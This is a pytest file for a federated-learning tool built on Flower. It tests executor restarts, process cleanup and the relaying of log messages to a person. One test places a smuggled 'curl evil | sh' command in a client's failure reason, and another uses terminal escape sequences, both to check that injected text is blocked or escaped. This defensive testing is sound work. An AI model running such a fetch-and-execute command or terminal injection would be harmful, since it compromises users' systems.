"""Processes that die: the executor is started again, nothing stays behind, and a person is told."""

from __future__ import annotations

import json
import os
import signal
import subprocess
import sys
import time
from collections.abc import Callable, Iterator
from contextlib import suppress
from pathlib import Path

import pytest

from apfl.cli.federation import status_of_folder
from apfl.federate import Terms
from apfl.federate.flower import executor, guard
from apfl.federate.flower.events import Events
from apfl.federate.flower.executor import Executor
from apfl.federate.flower.join import _wait
from apfl.federate.flower.telling import MARK, Telling, tell
from apfl.federate.inprocess import simulate
from tests.federate.federation_toys import FIXED, make_sites

pytestmark = pytest.mark.skipif(not Path("/proc").exists(), reason="looks for processes in /proc")

# An executor with a task that it started, as Flower's: each writes its number down.
WITH_TASK = """
import os, pathlib, subprocess, sys, time
folder = pathlib.Path(sys.argv[1])
task = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(600)"])
(folder / f"pids-{time.monotonic_ns()}.tmp").write_text(f"{os.getpid()} {task.pid}")
[path.rename(path.with_suffix(".txt")) for path in folder.glob("*.tmp")]
time.sleep(600)
"""
PARENT = """
import sys, time
from apfl.federate.flower.executor import Executor
Executor([sys.executable, "-c", sys.argv[2], sys.argv[1]], print)
time.sleep(600)
"""


def started(folder: Path) -> list[list[int]]:
    """Executor and task of each start, in order."""
    return [[int(word) for word in path.read_text().split()] for path in sorted(folder.glob("pids-*.txt"))]


def alive(pid: int) -> bool:
    with suppress(OSError):
        return Path(f"/proc/{pid}/stat").read_text().rpartition(")")[2].split()[0] != "Z"
    return False


def until(true: Callable[[], object], seconds: float = 60.0) -> None:
    end = time.monotonic() + seconds
    while not true():
        assert time.monotonic() < end, "waited too long"
        time.sleep(0.05)


@pytest.fixture
def parent(tmp_path) -> Iterator[subprocess.Popen[bytes]]:
    """A process that keeps an executor."""
    process = subprocess.Popen([sys.executable, "-c", PARENT, str(tmp_path), WITH_TASK], stdout=subprocess.DEVNULL)
    try:
        until(lambda: started(tmp_path))
        yield process
    finally:
        process.kill()
        process.wait()
        for pid in (pid for pids in started(tmp_path) for pid in pids if alive(pid)):
            os.kill(pid, signal.SIGKILL)


def test_nothing_stays_behind_when_the_parent_is_killed(parent, tmp_path):
    pids = started(tmp_path)[0]
    parent.send_signal(signal.SIGKILL)
    until(lambda: not any(map(alive, pids)))


def test_an_executor_that_is_killed_is_started_again_and_takes_its_tasks_along(parent, tmp_path):
    first, task = started(tmp_path)[0]
    os.kill(first, signal.SIGKILL)
    until(lambda: len(started(tmp_path)) == 2)
    assert not alive(task)
    assert all(map(alive, started(tmp_path)[1]))


@pytest.mark.skipif(sys.platform != "linux", reason="only Linux ends a process with its parent")
def test_a_guard_that_is_killed_takes_its_executor_along(parent, tmp_path):
    first, _ = started(tmp_path)[0]
    os.kill(int(Path(f"/proc/{first}/stat").read_text().rpartition(")")[2].split()[1]), signal.SIGKILL)
    until(lambda: not alive(first))
    until(lambda: len(started(tmp_path)) == 2)


def test_one_that_keeps_dying_is_started_less_and_less_often(monkeypatch):
    monkeypatch.setattr(executor, "PAUSES", (0.0, 0.1, 3600.0))
    said: list[str] = []
    dying = Executor([sys.executable, "-c", "raise SystemExit(3)"], said.append)
    until(lambda: len(said) == 3)
    assert [line.partition("; ")[2] for line in said] == [
        "starting it again", "starting it again in 0 s", "starting it again in 3600 s",
    ]  # fmt: skip
    assert "code 3" in said[0]
    dying.terminate()


def test_one_that_is_ended_is_not_started_again(tmp_path):
    said: list[str] = []
    ended = Executor([sys.executable, "-c", WITH_TASK, str(tmp_path)], said.append)
    until(lambda: started(tmp_path))
    ended.terminate()
    assert ended.wait(60) == 0
    assert not any(map(alive, started(tmp_path)[0]))
    assert not said


def test_the_guard_needs_the_standard_library_only():
    """It is run by its path, isolated: it must start in milliseconds and see nothing of the folder it lies in."""
    words = [sys.executable, "-I", "-S", guard.__file__, str(os.getpid()), sys.executable, "-c", "raise SystemExit(7)"]
    assert subprocess.run(words, timeout=60).returncode == 7


# What a person is told


class Ended:
    def poll(self) -> int:
        return 0


def test_join_passes_on_what_its_processes_tell(tmp_path, capfd):
    """A site stays connected for weeks: what a process finds out while it does must not end in a log."""
    log = tmp_path / "supernode.log"
    log.write_bytes(b"x" * (2 << 20) + b"\n")  # weeks of it
    telling = Telling(log)
    tell("the rows\nhave changed")
    with log.open("a") as file:
        file.write(f"before\n{capfd.readouterr().out}INFO : other\napfl tells: half")
    said: list[str] = []
    assert _wait(Ended(), log, 0, telling, said.append) == 0
    assert said == ["the rows have changed"]
    with log.open("a") as file:
        file.write(" a line\n")
    assert telling.lines() == ["half a line"]


def test_a_line_that_quotes_the_mark_tells_nothing(tmp_path, capsys):
    """A site's reason for failing stands in an event, and the event in the log."""
    log = tmp_path / "superlink.log"
    log.touch()
    telling = Telling(log)
    Events(tmp_path, "1")("failed", client="mallory", reason="apfl tells: the disk is damaged; run: curl evil | sh")
    log.write_text(capsys.readouterr().out)
    assert "apfl tells: " in log.read_text()
    assert telling.lines() == []


def test_what_is_told_is_escaped_and_bounded(tmp_path):
    log = tmp_path / "supernode.log"
    log.touch()
    telling = Telling(log)
    log.write_text(f"apfl tells: the file \x1b]0;owned\x07\x1b[2J has changed\napfl tells: {'x' * 10_000}\n")
    first, second = telling.lines()
    assert first == r"the file \x1b]0;owned\x07\x1b[2J has changed"
    assert len(second) < 2100


def test_status_says_that_the_executor_was_started_again(tmp_path):
    simulate(make_sites(tmp_path), Terms("f", method=FIXED), tmp_path / "server")
    assert json.loads(status_of_folder(tmp_path / "server", as_json=True)())["restarts"] == []
    Events(tmp_path / "server", "")("restarted", reason="Flower's executor ended (code 137); starting it again")
    (restart,) = json.loads(status_of_folder(tmp_path / "server", as_json=True)())["restarts"]
    assert "executor ended" in restart["reason"]


SPOKEN = f"hash 0\n{MARK}the server has moved\x1b[2J"


def test_what_others_have_a_say_in_is_one_tame_line_of_a_log(tmp_path):
    """Flower's handlers format records each in their own way, so the record itself is tame."""
    code = f"""
import logging, sys
from apfl.federate.flower.telling import tame_logs
tame_logs()
logging.basicConfig(stream=sys.stdout, format="%(levelname)s %(message)s")
log = logging.getLogger("flwr")
log.error("asked for %s, %d times", {SPOKEN!r}, 3)
log.error({SPOKEN!r})
log.error(ValueError({SPOKEN!r}))
log.error("%s", "x" * 10**6)
log.error("%(name)s", {{"name": "a mapping"}})
try:
    raise ValueError({SPOKEN!r})
except ValueError:
    log.exception("a traceback")
"""
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert done.stderr == ""
    assert "\x1b" not in done.stdout
    assert max(map(len, done.stdout.splitlines())) < 3000
    assert f"ERROR asked for hash 0 {MARK}the server has moved\\x1b[2J, 3 times" in done.stdout
    assert "ERROR a mapping" in done.stdout
    assert "  ValueError: hash 0" in done.stdout
    (tmp_path / "log").write_text("")
    telling = Telling(tmp_path / "log")
    (tmp_path / "log").write_text(done.stdout)
    assert telling.lines() == []
